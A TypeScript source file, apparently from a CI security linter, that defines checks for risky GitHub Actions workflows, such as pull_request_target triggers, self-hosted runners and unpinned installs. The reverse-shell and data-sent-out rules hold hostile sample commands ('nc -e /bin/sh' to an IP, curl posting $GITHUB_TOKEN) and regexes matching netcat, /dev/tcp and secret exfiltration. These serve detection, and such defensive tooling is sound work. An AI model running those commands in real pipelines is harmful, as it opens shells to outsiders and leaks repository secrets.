import { asScalar, at, entriesOf, items, resolve, textOf, type YamlNode } from '@bartizan/syntax/yaml'
import type { PipelineCheck } from '../check.ts'
import { fencesOf } from '../workflow/fences.ts'
import type { Job, Workflow } from '../workflow/model.ts'
import { jobLines, stepCheck, steps, stepsOf, workflowCheck } from './define.ts'

const pinned = '11bd71901bbe5b1630ceea73d27597364c9af683'

const triggers: PipelineCheck = workflowCheck(
  {
    name: 'dangerous-trigger',
    title: 'Trigger that strangers pull, with the rights of the repository',
    why: 'The workflow runs with secrets and a token that can write, on events that any stranger causes. There are many ways from there to their code being run.',
    remedy:
      'Use `pull_request`. Where rights are needed, do only that in the second workflow, and treat everything it reads as hostile.',
    severity: 'high',
    confidence: 'medium',
    weakness: 'CWE-284',
    aliases: 'dangerous-triggers',
    about: 'flow',
    bad: [
      steps('- run: make', 'on: pull_request_target\npermissions: {}'),
      steps('- run: make', 'on:\n  workflow_run:\n    workflows: [CI]\npermissions: {}'),
    ],
    good: [steps('- run: make', 'on: [push, pull_request]\npermissions: {}')],
  },
  function* find(workflow) {
    const found = workflow.triggers.filter(({ name }) => name === 'pull_request_target' || name === 'workflow_run')
    const [first] = found
    if (first === undefined) return
    const names = found.map(({ name }) => name).join(' and ')
    yield {
      at: workflow.on ?? first.at,
      message: `${names} runs with the secrets and rights of the repository, and strangers cause it. Use \`pull_request\` if you can.`,
      identity: [names],
    }
  },
)

const anonymous: PipelineCheck = workflowCheck(
  {
    name: 'unnamed-definition',
    title: 'Workflow or job without a name',
    why: 'In the list of runs nobody can tell it from others.',
    remedy: 'Add `name`.',
    severity: 'info',
    confidence: 'low',
    aliases: 'anonymous-definition',
    about: 'hygiene',
    bad: [
      'on: push\npermissions: {}\njobs:\n  build:\n    name: build\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
      steps('- run: make'),
    ],
    good: [jobLines('name: build\nruns-on: ubuntu-24.04\nsteps:\n  - run: make')],
  },
  function* find(workflow) {
    if (workflow.name === undefined)
      yield { at: workflow.header, message: 'This has no `name`. Add one.', identity: ['workflow'] }
    if (workflow.kind === 'action') return
    for (const job of workflow.jobs) {
      if (at(job.node, 'name') === undefined)
        yield { at: job.key, message: `The job ${job.id} has no \`name\`. Add one.`, identity: [job.id] }
    }
  },
)

const concurrency: PipelineCheck = workflowCheck(
  {
    name: 'no-concurrency-limit',
    title: 'Runs that overtake each other',
    why: 'Without a limit many runs go on side by side: they cost money, and race for the same artifacts and deployments.',
    remedy: 'Set `concurrency` with a group and `cancel-in-progress`.',
    severity: 'info',
    confidence: 'low',
    weakness: 'CWE-770',
    aliases: 'concurrency-limits',
    about: 'hygiene',
    bad: [steps('- run: make')],
    good: [steps('- run: make', 'on: push\npermissions: {}\nconcurrency:\n  group: x\n  cancel-in-progress: true')],
  },
  function* find(workflow) {
    if (
      workflow.kind !== 'workflow' ||
      (workflow.triggers.length > 0 && workflow.triggers.every(({ name }) => name === 'workflow_call'))
    )
      return
    const entry = entriesOf(workflow.root).get('concurrency')
    const setting = resolve(entry?.value)
    if (entry !== undefined) {
      if (setting?.kind === 'scalar' || at(entry.value, 'cancel-in-progress') === undefined)
        yield { at: entry, message: 'Older runs are not cancelled. Set `cancel-in-progress`.', identity: ['workflow'] }
      return
    }
    const missing = workflow.jobs.filter((job) => at(job.node, 'concurrency', 'cancel-in-progress') === undefined)
    if (missing.length > 0 || workflow.jobs.length === 0)
      yield {
        at: workflow.on ?? workflow.header,
        message: 'Nothing limits how many runs go on side by side. Set `concurrency`.',
        identity: ['workflow'],
      }
  },
)

/** Labels of runners; those of a matrix where its values are written out. */
function runnersOf(job: Job): readonly string[] {
  const node = at(job.node, 'runs-on')
  const found = resolve(node)
  if (found?.kind === 'sequence') return found.items.flatMap((item) => textOf(item) ?? [])
  if (found?.kind === 'mapping')
    return at(found, 'group') === undefined ? textsOf(at(found, 'labels')) : ['self-hosted']
  const text = found?.text ?? ''
  const key = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(text)?.[1]
  if (key === undefined) return [text]
  const values = items(at(job.matrix, key))
  const included = items(at(job.matrix, 'include')).map((item) => at(item, key))
  const excluded = new Set(
    items(at(job.matrix, 'exclude')).flatMap((item) =>
      entriesOf(item).size === 1 ? (textOf(at(item, key)) ?? []) : [],
    ),
  )
  return [...values, ...included].flatMap((value) => textsOf(value)).filter((label) => !excluded.has(label))
}

function textsOf(node: YamlNode | undefined): readonly string[] {
  const text = textOf(node)
  return text === undefined ? items(node).flatMap((item) => textOf(item) ?? []) : [text]
}

const selfHosted: PipelineCheck = workflowCheck(
  {
    name: 'self-hosted-runner',
    title: 'Runner of your own',
    why: 'Unless it is thrown away after each job, one run leaves files and processes for the next. In a public repository a pull request gets a foothold in your network.',
    remedy: 'Use hosted or ephemeral runners, and none of your own for public repositories.',
    severity: 'medium',
    confidence: 'low',
    weakness: 'CWE-668',
    aliases: 'self-hosted-runner pr_runs_on_self_hosted',
    about: 'access',
    bad: [jobLines('runs-on: [self-hosted, linux]\nsteps:\n  - run: make')],
    good: [jobLines('runs-on: ubuntu-24.04\nsteps:\n  - run: make')],
  },
  function* find(workflow) {
    for (const job of workflow.jobs) {
      const entry = entriesOf(job.node).get('runs-on')
      if (entry === undefined || !runnersOf(job).some((label) => label.toLowerCase() === 'self-hosted')) continue
      yield {
        at: { start: entry.key.start, end: entry.value.kind === 'mapping' ? entry.key.end : entry.end },
        message: `The job ${job.id} runs on a machine of your own. Make sure that it is thrown away after each job.`,
        identity: [job.id],
      }
    }
  },
)

const wellKnown = new Set(['bash', 'sh', 'pwsh', 'powershell', 'python', 'cmd'])

const misfeature: PipelineCheck = workflowCheck(
  {
    name: 'misfeature',
    title: 'Feature that is hard to use safely',
    why: 'Shells without a grammar cannot be checked by anyone, and packages installed into the system are pinned by nobody.',
    remedy: 'Use bash or pwsh, and install packages from a lock file.',
    severity: 'low',
    confidence: 'low',
    aliases: 'misfeature shell-name',
    about: 'hygiene',
    bad: [
      steps('- run: dir\n  shell: cmd'),
      steps(`- uses: actions/setup-python@${pinned}\n  with:\n    pip-install: -r requirements.txt`),
    ],
    good: [steps('- run: ls\n  shell: bash')],
  },
  function* find(workflow) {
    for (const { job, step } of stepsOf(workflow)) {
      const shell = entriesOf(step.node).get('shell')
      const name = /^[\w.-]+/.exec(step.shell ?? '')?.[0] ?? ''
      if (shell !== undefined && !step.shell?.includes('${{') && (name === 'cmd' || !wellKnown.has(name))) {
        yield {
          at: shell,
          message: `The shell ${name} cannot be checked for injections. Use bash or pwsh.`,
          identity: [job.id, step.shell ?? ''],
        }
      }
      const install = step.with.get('pip-install')
      if (install !== undefined && step.uses?.kind === 'repository' && step.uses.repo === 'setup-python') {
        yield {
          at: install,
          message: 'These packages go into the system unpinned. Install them from a lock file.',
          identity: [job.id, 'pip-install'],
        }
      }
    }
    const standard = asScalar(at(workflow.root, 'defaults', 'run', 'shell'))
    if (standard?.text === 'cmd')
      yield {
        at: standard,
        message: 'The shell cmd cannot be checked for injections. Use bash or pwsh.',
        identity: ['defaults'],
      }
  },
)

interface ScriptRule {
  readonly name: string
  readonly title: string
  readonly why: string
  readonly remedy: string
  readonly severity: 'critical' | 'high' | 'medium' | 'low'
  readonly aliases: string
  readonly pattern: RegExp
  readonly bad: string
  readonly good: string
}

const scripts: readonly ScriptRule[] = [
  {
    name: 'reverse-shell',
    title: 'Step opens a shell to the outside',
    why: 'Whoever waits at the other end commands the runner, with its secrets.',
    remedy: 'Remove it, and renew every secret of the job.',
    severity: 'critical',
    aliases: 'CKV_GHA_4',
    pattern:
      /\b(?:nc|netcat|ncat)\b[^\n|;]*\s-[a-z]*[ec]\b|\/dev\/tcp\/[\w.]+\/\d+|\b(?:nc|netcat|ncat)\b\s+(?:-[a-z]+\s+)*\d{1,3}(?:\.\d{1,3}){3}\s+\d+|\bmkfifo\b[^\n]*\b(?:nc|netcat)\b/,
    bad: 'nc -e /bin/sh 203.0.113.7 4444',
    good: 'nc -z localhost 5432',
  },
  {
    name: 'data-sent-out',
    title: 'Step sends secrets or files to the outside',
    why: 'Secrets in a request end in the logs of whoever receives it.',
    remedy: 'Send nothing that the receiver does not need, and no secrets.',
    severity: 'medium',
    aliases: 'CKV_GHA_3 CKV_GITLABCI_1',
    pattern:
      /\bcurl\b[^\n]*(?:\s-(?:d|F|T)|\s--(?:data\S*|form|upload-file))\s*["']?[^\n]*(?:\$\{?(?:CI_JOB_TOKEN|CI_JOB_JWT\w*|GITHUB_TOKEN|SECRET\w*|\w+_(?:TOKEN|SECRET|PASSWORD))|\$\{\{\s*(?:secrets|toJSON))/i,
    bad: 'curl -d "$GITHUB_TOKEN" https://example.com',
    good: 'curl -fsSL https://example.com/data.json -o data.json',
  },
]

const scriptChecks: readonly PipelineCheck[] = scripts.map((rule) =>
  stepCheck(
    {
      name: rule.name,
      title: rule.title,
      why: rule.why,
      remedy: rule.remedy,
      severity: rule.severity,
      confidence: 'medium',
      weakness: rule.name === 'reverse-shell' ? 'CWE-506' : 'CWE-200',
      aliases: rule.aliases,
      about: 'injection',
      bad: [`- run: ${rule.bad}`],
      good: [`- run: ${rule.good}`],
    },
    function* find({ job, step }) {
      if (step.run === undefined || step.entry === undefined) return
      const line = step.run.text.split('\n').find((candidate) => rule.pattern.test(candidate.slice(0, 2000)))
      if (line !== undefined)
        yield {
          at: step.entry.key,
          message: `${rule.title}: ${line.trim().slice(0, 80)}. ${rule.remedy}`,
          identity: [job.id, step.id ?? '', line.trim()],
        }
    },
  ),
)

const unparsed: PipelineCheck = workflowCheck(
  {
    name: 'invalid-expression',
    title: 'Expression that GitHub refuses',
    why: 'The workflow does not start, or the guard it belongs to is never asked.',
    remedy: 'Correct the expression.',
    severity: 'low',
    weakness: 'CWE-1286',
    aliases: 'expression syntax-check',
    about: 'hygiene',
    bad: [steps('- run: echo ${{ github.sha }\n  if: ${{ github.event. }}')],
    good: [steps('- run: echo ${{ github.sha }}')],
  },
  function* find(workflow: Workflow) {
    for (const fence of fencesOf(workflow)) {
      if (fence.error === undefined) continue
      yield { at: fence, message: `This expression cannot be read: ${fence.error}.`, identity: [fence.text] }
    }
  },
)

const dispatchInputs: PipelineCheck = workflowCheck(
  {
    name: 'dispatch-inputs',
    title: 'Build takes parameters from whoever starts it',
    why: 'What is built then depends on more than the source, and cannot be traced back to it.',
    remedy: 'Leave `workflow_dispatch` without inputs for workflows that build what is shipped.',
    severity: 'info',
    confidence: 'low',
    aliases: 'CKV_GHA_7',
    about: 'integrity',
    bad: [
      steps(
        '- run: make',
        'on:\n  workflow_dispatch:\n    inputs:\n      level:\n        type: string\npermissions: {}',
      ),
    ],
    good: [steps('- run: make', 'on:\n  workflow_dispatch:\npermissions: {}')],
  },
  function* find(workflow) {
    for (const trigger of workflow.triggers) {
      const inputs = entriesOf(trigger.node).get('inputs')
      if (trigger.name !== 'workflow_dispatch' || inputs === undefined || entriesOf(inputs.value).size === 0) continue
      yield {
        at: inputs.key,
        message:
          'Whoever starts this by hand sets parameters that no commit records. Leave them out of release builds.',
        identity: ['inputs'],
      }
    }
  },
)

export const workflowChecks: readonly PipelineCheck[] = [
  triggers,
  anonymous,
  concurrency,
  selfHosted,
  misfeature,
  ...scriptChecks,
  unparsed,
  dispatchInputs,
]
